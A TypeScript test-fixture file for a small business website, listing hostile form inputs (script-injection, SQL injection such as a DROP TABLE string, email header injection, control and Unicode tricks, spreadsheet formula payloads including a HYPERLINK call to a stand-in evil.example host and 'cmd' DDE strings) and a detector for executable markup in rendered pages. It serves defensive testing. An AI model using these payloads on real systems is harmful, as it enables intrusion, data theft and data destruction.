import { defaultBusiness } from "~/content/business";
import { appointmentTypes } from "~/content/forms";
import { bookingServices } from "~/forms/options";

/**
 * Hostile input, in one place: what an attacker or a careless paste puts into a form field or the chat.
 * Fed to every public form field and to the chat (tests/integration/hostile-input.test.ts, the stress run).
 */
interface HostileValue {
  id: string;
  kind: "xss" | "sql" | "header" | "control" | "unicode" | "length" | "formula";
  value: string;
}

export const HOSTILE: HostileValue[] = [
  // Markup and script
  { id: "script-tag", kind: "xss", value: "<script>alert(1)</script>" },
  { id: "attr-breakout", kind: "xss", value: '"><img src=x onerror=alert(1)>' },
  { id: "single-quote-breakout", kind: "xss", value: "'><svg/onload=alert(1)>" },
  { id: "javascript-url", kind: "xss", value: "javascript:alert(1)" },
  { id: "javascript-url-encoded", kind: "xss", value: "jav&#x09;ascript:alert(1)" },
  { id: "svg-onload", kind: "xss", value: '<svg onload="alert(1)"><circle r="1"/></svg>' },
  { id: "nested-script", kind: "xss", value: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { id: "closing-script", kind: "xss", value: "</script><script>alert(1)</script>" },
  { id: "iframe-srcdoc", kind: "xss", value: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { id: "template-literal", kind: "xss", value: "${alert(1)}{{constructor.constructor('alert(1)')()}}" },
  // SQL
  { id: "sql-or", kind: "sql", value: "' OR 1=1 --" },
  { id: "sql-drop", kind: "sql", value: "'; DROP TABLE leads; --" },
  { id: "sql-union", kind: "sql", value: "1 UNION SELECT password_hash FROM users --" },
  // Header injection (CR/LF)
  { id: "crlf-bcc", kind: "header", value: "a@b.com\r\nBcc: victim@x.com" },
  { id: "crlf-subject", kind: "header", value: "Name\r\nSubject: spam" },
  { id: "lf-bcc", kind: "header", value: "Bob\nBcc: victim@x.com\n\nbody" },
  { id: "encoded-crlf", kind: "header", value: "Bob%0d%0aBcc:%20victim@x.com" },
  // Control characters
  { id: "null-byte", kind: "control", value: "Bob\u0000Smith" },
  { id: "null-only", kind: "control", value: "\u0000" },
  { id: "path-null", kind: "control", value: "/contact\u0000x" },
  { id: "path-markup", kind: "xss", value: "/<svg/onload=alert(1)>" },
  { id: "c0-controls", kind: "control", value: "a\u0001\u0007\u001b[31mred\u001b[0m\u007f" },
  // Unicode
  { id: "rtl-override", kind: "unicode", value: "John \u202Egnp.exe" },
  { id: "zero-width", kind: "unicode", value: "Jo\u200Bhn\u200D\u200C\uFEFF" },
  { id: "confusable", kind: "unicode", value: "\u0420\u0430ul \u0410dmin" },
  { id: "combining-zalgo", kind: "unicode", value: "Z\u0351\u0364\u0346a\u0350l\u0357g\u0336o" },
  { id: "lone-surrogate", kind: "unicode", value: "bad \uD800 half" },
  { id: "emoji", kind: "unicode", value: "\u{1F600}\u{1F4A5}\u{1F9E8}" },
  // Length
  { id: "long-10k", kind: "length", value: "A".repeat(10_000) },
  { id: "long-100k", kind: "length", value: "<b>".repeat(33_334) },
  // Within the 1000-character limits, but three bytes a character: 3 kB where a budget counted 1 kB.
  { id: "long-multibyte", kind: "length", value: "\u5C71".repeat(1000) },
  // Spreadsheet formulas
  { id: "formula-equals", kind: "formula", value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
  { id: "formula-plus", kind: "formula", value: "+1+cmd|' /C calc'!A0" },
  { id: "formula-minus", kind: "formula", value: "-2+3+cmd|' /C calc'!A0" },
  { id: "formula-at", kind: "formula", value: "@SUM(1+9)*cmd|' /C calc'!A0" },
  { id: "formula-tab", kind: "formula", value: "\t=1+1" },
  { id: "formula-cr", kind: "formula", value: "\r=1+1" },
];

/** Characters a spreadsheet treats as the start of a formula (OWASP CSV injection). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** An opening tag with attributes, as a payload writes it (`<img src=x onerror=…>`, `<svg/onload=…>`). */
const TAG_WITH_ATTRIBUTES = /<[a-z][a-z0-9]*[\s/][^<>]*>?/gi;
const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "poster"]);

/** The attributes of every tag in a page, as React writes them (double-quoted values). */
function* tags(html: string) {
  for (const [tag, name, rest] of html.matchAll(/<([a-z][a-z0-9-]*)((?:[^>"]|"[^"]*")*)>/gi)) {
    const attributes = [...rest.matchAll(/[\s/]([^\s=/>"]+)(?:\s*=\s*(?:"([^"]*)"|([^\s>"]+)))?/g)].map(([, key, quoted, bare]) => ({
      key: key.toLowerCase(),
      value: (quoted ?? bare ?? "").replace(/&#x?[0-9a-f]+;|&[a-z]+;|\s/gi, ""),
    }));
    yield { tag, name: name.toLowerCase(), attributes };
  }
}

/**
 * What in an HTML page could run: an element with an inline handler (React never writes one), a
 * `javascript:` URL in a link, source or form attribute, a payload's tag copied in unescaped, or more
 * `<script>` elements than the page has on its own (`baselineScripts`). Returns what it found.
 */
export function executableMarkup(html: string, payloads: string[], baselineScripts: number): string[] {
  const found: string[] = [];
  let scripts = 0;
  for (const { tag, name, attributes } of tags(html)) {
    if (name === "script") scripts += 1;
    if (attributes.some((a) => /^on[a-z]+$/.test(a.key))) found.push(`inline handler: ${tag.slice(0, 120)}`);
    if (attributes.some((a) => URL_ATTRIBUTES.has(a.key) && /^(?:javascript|vbscript|data:text\/html)/i.test(a.value))) {
      found.push(`script URL: ${tag.slice(0, 120)}`);
    }
    if (name === "iframe" && attributes.some((a) => a.key === "srcdoc")) found.push(`iframe srcdoc: ${tag.slice(0, 120)}`);
  }
  if (scripts > baselineScripts) found.push(`${scripts} <script> elements, the page alone has ${baselineScripts}`);
  const lower = html.toLowerCase();
  for (const payload of payloads) {
    for (const fragment of payload.match(TAG_WITH_ATTRIBUTES) ?? []) {
      if (lower.includes(fragment.toLowerCase())) found.push(`unescaped markup: ${fragment.slice(0, 80)}`);
    }
  }
  return found;
}

/** Counts `<script>` elements (for executableMarkup's baseline). */
export const scriptCount = (html: string) => [...tags(html)].filter((t) => t.name === "script").length;

const schedulingUrl = appointmentTypes(defaultBusiness.schedulingUrl)[0].uri;

interface FormCase {
  id: string;
  path: string;
  /** Remix route id, for the data request a browser with JavaScript makes. */
  route: string;
  base(ref: number): Record<string, string>;
}

export const phoneOf = (ref: number) => `571${String(ref).padStart(7, "0")}`;
export const emailOf = (ref: number) => `hostile-${ref}@example.com`;

/** Every public form, with valid values whose phone and email carry a reference number. */
export const PUBLIC_FORMS: FormCase[] = [
  {
    id: "contact (estimate)",
    path: "/contact",
    route: "routes/contact",
    base: (ref) => ({
      type: "estimate",
      name: "Hostile Tester",
      phone: phoneOf(ref),
      email: emailOf(ref),
      serviceType: "other",
      address: "1 Main St",
      preferredTime: "Morning",
      description: "Flickering lights",
      page: "/contact",
      company_website: "",
    }),
  },
  {
    id: "contact (emergency)",
    path: "/contact?type=emergency",
    route: "routes/contact",
    base: (ref) => ({
      type: "emergency",
      name: "Hostile Tester",
      phone: phoneOf(ref),
      email: emailOf(ref),
      serviceType: "other",
      address: "1 Main St",
      preferredTime: "Now",
      description: "Sparks from the panel",
      page: "/contact",
      company_website: "",
    }),
  },
  {
    id: "estimate",
    path: "/estimate",
    route: "routes/estimate",
    base: (ref) => ({
      name: "Hostile Tester",
      email: emailOf(ref),
      phone: phoneOf(ref),
      address: "1 Main St",
      service: "other",
      description: "New circuit",
      page: "/estimate",
      company_website: "",
    }),
  },
  {
    id: "booking",
    path: "/book",
    route: "routes/book",
    base: (ref) => ({
      name: "Hostile Tester",
      phone: phoneOf(ref),
      email: emailOf(ref),
      service: bookingServices[0].value,
      message: "Call after five",
      eventTypeUri: schedulingUrl,
      page: "/book",
      company_website: "",
    }),
  },
  {
    id: "newsletter",
    path: "/newsletter",
    route: "routes/newsletter",
    base: (ref) => ({ email: emailOf(ref), page: "/newsletter", company_website: "" }),
  },
];
